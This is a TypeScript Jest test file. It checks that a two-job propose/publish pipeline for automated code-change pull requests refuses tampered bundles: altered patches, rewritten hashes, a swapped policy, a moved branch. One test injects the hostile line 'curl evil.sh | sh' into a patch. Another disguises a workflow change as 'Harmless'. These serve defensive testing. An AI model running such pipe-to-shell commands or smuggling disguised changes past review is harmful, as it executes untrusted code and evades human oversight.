/**
 * The two-job setup: the propose job (publishMode 'bundle') verifies and bundles its changes without any GitHub
 * write; the publish job (publish.ts publishBundle) opens their pull requests only after checking the bundle
 * (repository, policy blob at the base commit, patch hashes against the bundle and the recorded proposals) and
 * judging every change again with the rails. A bundle altered in any of these ways publishes nothing.
 */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Db } from '../src/store/db.js';
import { openDatabase } from '../src/store/open.js';
import { insertProposal, patchSha256 } from '../src/store/proposals.js';
import { publishBundle, type PublishReport } from '../src/publish.js';
import { BUNDLE_FILE } from '../src/act/bundle.js';
import { openRunDatabase, resetRuns } from './helpers/run-db.js';
import type { TestDatabase } from './helpers/db.js';
import { capturingLogger, steppingClock, testOptions } from './helpers/run-deps.js';
import { DAY, TOKEN, world, type World } from './helpers/live-world.js';
import { makeTempRepo } from './helpers/git-repo.js';

let database: TestDatabase;
let admin: Db;
let w: World | undefined;
let bundleDir: string;

beforeAll(async () => {
  ({ database, admin } = await openRunDatabase('publish_bundle'));
});
afterAll(async () => {
  await admin?.close();
  await database?.drop();
});
beforeEach(async () => {
  await resetRuns(admin);
  bundleDir = await mkdtemp(join(tmpdir(), 'se-bundle-job-'));
});
afterEach(async () => {
  await w?.cleanup();
  w = undefined;
  await rm(bundleDir, { recursive: true, force: true });
});

/** The propose job: a live run that bundles. */
async function propose(): Promise<void> {
  const report = await w!.run({ publishMode: 'bundle', bundleDir });
  expect(report.status).toBe('success');
  expect(report.proposals[0]!.pullRequest).toMatchObject({ state: 'bundled' });
  expect(report.bundleDir).toBe(bundleDir);
}

/** The publish job, on the same checkout (as a second job's fresh checkout of the same commit would be). */
async function publish(): Promise<PublishReport & { logs: string[] }> {
  const logger = capturingLogger(steppingClock(DAY));
  const report = await publishBundle(
    testOptions(w!.repo.dir, {
      databaseUrl: database.url,
      dryRun: false,
      prToken: TOKEN,
      pushWithToken: true,
      bundleDir,
    }),
    { clock: steppingClock(DAY), logger, openDb: openDatabase, pullRequestClient: w!.client() },
  );
  return { ...report, logs: logger.messages };
}

async function editBundle(
  edit: (json: Record<string, unknown> & { items: Record<string, unknown>[] }) => void,
) {
  const path = join(bundleDir, BUNDLE_FILE);
  const json = JSON.parse(await readFile(path, 'utf8')) as Record<string, unknown> & {
    items: Record<string, unknown>[];
  };
  edit(json);
  await writeFile(path, JSON.stringify(json));
}

describe('two jobs: propose bundles, publish opens', () => {
  it('the propose job writes to GitHub nothing; the publish job opens the pull request', async () => {
    w = await world(database.url);
    await propose();
    expect(w.fake.requests.filter((r) => r.method !== 'GET')).toEqual([]);
    expect(await w.git('for-each-ref', 'refs/heads/self-evolution/')).toBe('');

    const published = await publish();
    expect(published.status).toBe('success');
    expect(published.pullRequests).toEqual([expect.objectContaining({ state: 'opened', number: 1 })]);
    expect(w.fake.pulls).toHaveLength(1);
    expect(w.fake.pulls[0]!.draft).toBe(true);
    // publishing the same bundle again opens nothing new
    const again = await publish();
    expect(again.pullRequests).toEqual([expect.objectContaining({ state: 'existing', number: 1 })]);
    expect(w.fake.pulls).toHaveLength(1);
    w.fake.assertNoViolations();
  });

  it('refuses a bundle whose patch was altered after it was bundled', async () => {
    w = await world(database.url);
    await propose();
    const patchFile = (await readFile(join(bundleDir, BUNDLE_FILE), 'utf8')).match(/proposal-\d+\.patch/)![0];
    const path = join(bundleDir, patchFile);
    await writeFile(
      path,
      (await readFile(path, 'utf8')).replace('the weather', 'the weather; curl evil.sh | sh'),
    );
    const published = await publish();
    expect(published.status).toBe('failed');
    expect(published.error).toMatch(/does not match the bundle: its sha256 is/);
    expect(w.fake.pulls).toEqual([]);
  });

  it('refuses a patch whose hash was rewritten in the bundle but not in the recorded proposal', async () => {
    w = await world(database.url);
    await propose();
    const item = JSON.parse(await readFile(join(bundleDir, BUNDLE_FILE), 'utf8')).items[0] as {
      patchFile: string;
    };
    const path = join(bundleDir, item.patchFile);
    const altered = (await readFile(path, 'utf8'))
      .replace('+teh', '+teh')
      .replace('the weather', 'thee weather');
    await writeFile(path, altered);
    await editBundle((b) => {
      b.items[0]!.patchSha256 = patchSha256(altered);
    });
    const published = await publish();
    expect(published.status).toBe('success');
    expect(published.pullRequests[0]).toMatchObject({ state: 'not-published' });
    expect(published.pullRequests[0]!.reason).toMatch(
      /refused: its patch differs from the recorded proposal/,
    );
    expect(w.fake.pulls).toEqual([]);
  });

  it('refuses a bundle whose policy is not the base commit’s', async () => {
    w = await world(database.url);
    await propose();
    await editBundle((b) => {
      (b.policy as { blobSha: string }).blobSha = 'f'.repeat(40);
    });
    const published = await publish();
    expect(published.status).toBe('failed');
    expect(published.error).toMatch(/the bundle was altered or made from another policy/);
    expect(w.fake.pulls).toEqual([]);
  });

  it('judges every change again: a recorded, hashed, bundled change the rails block is not published', async () => {
    w = await world(database.url);
    await propose();
    // a change to a workflow, recorded as allowed and bundled with matching hashes (a compromised first job)
    await w.repo.write({ '.github/workflows/x.yml': 'on: push\njobs: {}\n' });
    await w.repo.git('add', '-A');
    const evil = (await w.repo.git('diff', '--cached', '--binary')) + '\n';
    await w.repo.git('reset', '--quiet', '--hard');
    const [{ id: runId }] = await admin.query<{ id: number }>('SELECT id FROM self_evolution_runs');
    const proposalId = await insertProposal(admin, runId!, {
      proposer: 'x',
      type: 'cleanup',
      title: 'Harmless',
      description: '',
      riskLevel: 0,
      effort: 0,
      status: 'evaluated',
      verdict: 'allowed',
      blockedReasons: [],
      violations: [],
      filesChanged: 1,
      linesAdded: 2,
      linesDeleted: 0,
      patch: evil,
      provenance: {},
    });
    await writeFile(join(bundleDir, `proposal-${proposalId}.patch`), evil);
    await editBundle((b) => {
      b.items = [
        {
          ...b.items[0]!,
          proposalId,
          title: 'Harmless',
          patchFile: `proposal-${proposalId}.patch`,
          patchSha256: patchSha256(evil),
        },
      ];
    });
    const published = await publish();
    expect(published.pullRequests[0]).toMatchObject({ state: 'not-published' });
    expect(published.pullRequests[0]!.reason).toMatch(
      /the rails block the commit as it would be pushed: .*path/,
    );
    expect(w.fake.pulls).toEqual([]);
    expect(await w.git('for-each-ref', 'refs/heads/self-evolution/')).toBe('');
  });

  it('does not publish when the default branch moved since the change was verified', async () => {
    w = await world(database.url);
    await propose();
    const other = await makeTempRepo({});
    try {
      await other.git('fetch', '--quiet', w.bare, 'main');
      await other.git('reset', '--quiet', '--hard', 'FETCH_HEAD');
      await other.commit({ 'docs/other.md': 'moved\n' });
      await other.git('push', '--quiet', w.bare, 'HEAD:refs/heads/main');
    } finally {
      await other.cleanup();
    }
    const published = await publish();
    expect(published.pullRequests[0]).toMatchObject({ state: 'not-published' });
    expect(published.pullRequests[0]!.reason).toMatch(
      /the default branch moved to [0-9a-f]{8} since the change was verified/,
    );
    expect(w.fake.pulls).toEqual([]);
  });
});
